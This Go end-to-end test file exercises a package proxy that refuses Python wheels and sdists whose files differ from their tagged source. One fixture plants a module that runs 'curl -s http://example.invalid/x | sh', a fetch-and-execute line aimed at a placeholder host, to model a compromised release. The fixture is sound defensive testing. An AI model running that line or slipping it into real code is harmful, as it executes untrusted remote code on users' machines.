package e2e

import (
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"airlock/internal/fakepypi"
)

// TestWheelComparedWithTaggedSource is the compromised-pipeline shape
// (Ultralytics 8.3.41: built, attested and tagged like any other release,
// carrying code nobody committed): ultra 1.1's ultra/utils/downloads.py is
// not what the repository has at v1.1, and pip is refused with the file
// named. clean 1.1, whose files are its tag's, installs. When the forge's
// source archives cannot be read, the comparison is inert: the release is
// served as the other checks decide, and /readyz says the check cannot
// run.
func TestWheelComparedWithTaggedSource(t *testing.T) {
	requireVenv(t)
	pip := pipClient("pinned-pip", filepath.Join(venv, "bin", "python"))
	fake := fakepypi.New()
	t.Cleanup(fake.Close)
	committed := map[string]string{"ultra/__init__.py": "", "ultra/utils/__init__.py": "", "ultra/utils/downloads.py": "def get(url):\n    return url\n"}
	built := map[string]string{"ultra/utils/__init__.py": "", "ultra/utils/downloads.py": "def get(url):\n    return url\n"}
	tampered := map[string]string{"ultra/utils/__init__.py": "", "ultra/utils/downloads.py": "def get(url):\n    return url\n\nimport subprocess\nsubprocess.Popen(['sh', '-c', 'curl -s http://example.invalid/x | sh'])\n"}
	repoFiles := func(pkg string) map[string]string {
		out := map[string]string{"README.md": "# " + pkg, "pyproject.toml": "[project]\nname = \"" + pkg + "\"\n"}
		for p, body := range committed {
			out["src/"+strings.Replace(p, "ultra", pkg, 1)] = body
		}
		return out
	}
	rename := func(m map[string]string, pkg string) map[string]string {
		out := map[string]string{}
		for p, body := range m {
			out[strings.Replace(p, "ultra", pkg, 1)] = body
		}
		return out
	}
	now := time.Now()
	for _, pkg := range []string{"ultra", "clean", "inert"} {
		fake.SetMeta(pkg, fakepypi.ProjectMeta{Maintainers: []string{"a", "b", "c"}, Organization: "acme",
			ProjectURLs: map[string]string{"Source": "https://github.com/acme/" + pkg}})
		fake.SetRepo("acme/"+pkg, fakepypi.Repo{CreatedAt: now.Add(-1000 * 24 * time.Hour), PushedAt: now,
			Tags: []fakepypi.FakeTag{{Name: "v1.0", CommitTime: uploaded.Add(-time.Hour), Released: uploaded.Add(-time.Hour), Files: repoFiles(pkg)},
				{Name: "v1.1", CommitTime: uploaded.Add(23 * time.Hour), Released: uploaded.Add(23 * time.Hour), Files: repoFiles(pkg)}}})
		fake.AddWheel(fakepypi.WheelSpec{Name: pkg, Version: "1.0", Extra: rename(built, pkg)}, uploaded)
		files := built
		if pkg == "ultra" {
			files = tampered
		}
		fake.AddWheel(fakepypi.WheelSpec{Name: pkg, Version: "1.1", Extra: rename(files, pkg)}, uploaded.Add(24*time.Hour))
	}
	// An sdist is compared too: its modules and build scripts.
	fake.SetMeta("sdonly", fakepypi.ProjectMeta{Maintainers: []string{"a", "b", "c"}, Organization: "acme",
		ProjectURLs: map[string]string{"Source": "https://github.com/acme/sdonly"}})
	fake.SetRepo("acme/sdonly", fakepypi.Repo{CreatedAt: now.Add(-1000 * 24 * time.Hour), PushedAt: now,
		Tags: []fakepypi.FakeTag{{Name: "v1.0", CommitTime: uploaded.Add(-time.Hour), Released: uploaded.Add(-time.Hour), Files: repoFiles("sdonly")},
			{Name: "v1.1", CommitTime: uploaded.Add(23 * time.Hour), Released: uploaded.Add(23 * time.Hour), Files: repoFiles("sdonly")}}})
	fake.AddSdistWith("sdonly", "1.0", rename(built, "sdonly"), uploaded)
	// Nothing in it a content check would hold: only the comparison can.
	quiet := map[string]string{"sdonly/__init__.py": "", "sdonly/utils/__init__.py": "", "sdonly/utils/downloads.py": "def get(url):\n    return url.replace('https', 'http')\n"}
	fake.AddSdistWith("sdonly", "1.1", quiet, uploaded.Add(24*time.Hour))
	fake.SetFault("/repos/acme/inert/tarball/v1.1", fakepypi.Fault{Status: http.StatusServiceUnavailable})
	a := startAirlock(t, t.TempDir(), airlockEnv(fake)...)

	out, err := run(t, pip.install(a.URL+"/simple/", t.TempDir(), "ultra==1.1"))
	if err == nil || !strings.Contains(out, "not-in-source in ultra/utils/downloads.py") || !strings.Contains(out, "differs from the source at v1.1") {
		t.Errorf("a module that is not its tag's: %v\n%s", err, out)
	}
	if out, err := run(t, pip.install(a.URL+"/simple/", t.TempDir(), "sdonly==1.1")); err == nil || !strings.Contains(out, "not-in-source in sdonly/utils/downloads.py") {
		t.Errorf("an sdist module that is not its tag's: %v\n%s", err, out)
	}
	target := t.TempDir()
	if out, err := run(t, pip.install(a.URL+"/simple/", target, "clean==1.1")); err != nil {
		t.Errorf("a release whose files are its tag's: %v\n%s", err, out)
	}
	assertInstalled(t, target, map[string]string{"clean": "1.1"})
	if out, err := run(t, pip.install(a.URL+"/simple/", t.TempDir(), "inert==1.1")); err != nil {
		t.Errorf("the forge down: the comparison is inert, not a hold: %v\n%s", err, out)
	}
	if _, body, _ := fetch(t, http.MethodGet, a.URL+"/readyz", nil); !strings.Contains(string(body), "the source comparison cannot run") {
		t.Errorf("/readyz does not say the comparison is inert:\n%s", body)
	}
}

// TestWheelComparedWithItsSdist: where no repository can be read (none is
// linked), a wheel is compared with its release's sdist. solo 1.1's wheel
// carries a module its sdist does not have as it ships it: pip and uv are
// refused with the file and the sdist named. duet 1.1, whose wheel is its
// sdist's code, installs; so does lone 1.1, which has no sdist to compare
// with (the check says so, and holds nothing).
func TestWheelComparedWithItsSdist(t *testing.T) {
	requireVenv(t)
	pip := pipClient("pinned-pip", filepath.Join(venv, "bin", "python"))
	fake := fakepypi.New()
	t.Cleanup(fake.Close)
	source := func(pkg string) map[string]string {
		return map[string]string{pkg + "/__init__.py": "", pkg + "/net.py": "def get(url):\n    return url\n"}
	}
	for _, pkg := range []string{"solo", "duet", "lone", "built"} {
		fake.SetMeta(pkg, fakepypi.ProjectMeta{Maintainers: []string{"a", "b", "c"}})
		for i, v := range []string{"1.0", "1.1"} {
			at := uploaded.Add(time.Duration(i) * 24 * time.Hour)
			wheel := source(pkg)
			if pkg == "solo" && v == "1.1" {
				wheel[pkg+"/net.py"] += "\nimport os\n_home = os.path.expanduser('~')\n"
			}
			if pkg == "built" {
				// A file the build writes (numpy's __config__.py): not in
				// the sdist, worth a look, no hold.
				wheel[pkg+"/__config__.py"] = "CONFIG = {'blas': 'openblas'}\n"
			}
			fake.AddWheel(fakepypi.WheelSpec{Name: pkg, Version: v, Extra: wheel}, at)
			if pkg != "lone" {
				fake.AddSdistWith(pkg, v, source(pkg), at)
			}
		}
	}
	a := startAirlock(t, t.TempDir(), airlockEnv(fake)...)

	// Wheels only: the sdist is clean, and a client that builds it gets
	// what the source says.
	out, err := run(t, pip.install(a.URL+"/simple/", t.TempDir(), "--only-binary", ":all:", "solo==1.1"))
	if err == nil || !strings.Contains(out, "not-in-source in solo/net.py") || !strings.Contains(out, "differs from the release's sdist solo-1.1.tar.gz") {
		t.Errorf("a wheel module its sdist does not have: %v\n%s", err, out)
	}
	// uv, asking after the hold: the page no longer offers the wheel.
	target := t.TempDir()
	if out, err := run(t, uvClient().install(a.URL+"/simple/", target, "--only-binary", ":all:", "solo==1.1")); err == nil {
		t.Errorf("uv installed the held wheel:\n%s", out)
	}
	for _, pkg := range []string{"duet", "lone", "built"} {
		target := t.TempDir()
		if out, err := run(t, pip.install(a.URL+"/simple/", target, pkg+"==1.1")); err != nil {
			t.Errorf("%s: %v\n%s", pkg, err, out)
		}
		assertInstalled(t, target, map[string]string{pkg: "1.1"})
	}
}
